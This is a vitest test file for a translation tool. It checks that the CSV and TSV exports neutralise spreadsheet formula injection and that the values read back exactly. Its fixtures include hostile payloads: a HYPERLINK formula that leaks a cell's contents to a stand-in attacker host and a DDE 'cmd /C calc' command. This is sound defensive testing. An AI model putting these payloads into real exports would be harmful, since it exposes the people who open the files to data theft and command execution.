/**
 * Formula injection (issue 13, item 8) in the articles' spreadsheet exports: the alignment links
 * CSV and the memory TSV. Hostile sentences (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`) never reach a
 * spreadsheet as formulas; reading the exports back gives the exact text, "-5 °C" and "+91" too.
 */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { writeLinksCsv, LINK_CSV_COLUMNS, type LinkRow } from '../../articles/exchange/links-csv.ts';
import { readTsvPairs, writeTsvPairs } from '../../articles/exchange/tm-convert.ts';
import { restoreFormulaCell } from '../../glossary/formats/spreadsheet-cells.ts';
import { readPairsTsv } from '../../transports/cli/commands/qa.ts';

const DANGER = /^[=+\-@\t\r]/;
const TEXTS = [
  '=HYPERLINK("http://evil.example/?q="&B2,"open")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+91 98765 43210 पर फोन करें',
  '-5 °C तक गिरा पारा',
  "'=quoted already",
  'दिल्ली में ठंड',
];

describe('links CSV', () => {
  it('no cell starts with = + - @ tab or CR; read back, every cell is the exact text', () => {
    const rows: LinkRow[] = TEXTS.map((text, index) => ({ article: index === 0 ? '=article' : `a${index}`, hi: text, en: `\t${text}`, score: 0.5, status: '-pending' }));
    const csv = writeLinksCsv(rows, { bom: false });
    const records = parse(csv) as string[][];
    expect(records[0]).toEqual([...LINK_CSV_COLUMNS]);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(DANGER);
    const back = records.slice(1).map((record) => record.map(restoreFormulaCell));
    expect(back).toEqual(rows.map((r) => [r.article, r.hi, r.en, r.score.toFixed(3), r.status]));
  });
});

describe('memory TSV (tm convert / readTsvPairs, qa --pairs)', () => {
  it('no column starts with a formula character; both readers give back the exact pairs', () => {
    const pairs = TEXTS.map((text, index) => ({ source: `${text} ${index}`, target: TEXTS[TEXTS.length - 1 - index] }));
    const tsv = writeTsvPairs(pairs);
    for (const line of tsv.split('\n').filter(Boolean)) for (const column of line.split('\t')) expect(column).not.toMatch(DANGER);
    expect(readTsvPairs(tsv)).toEqual({ pairs, problems: [] });
    expect(readPairsTsv(tsv, 'pairs.tsv').map(({ source, target }) => ({ source, target }))).toEqual(pairs);
  });
});
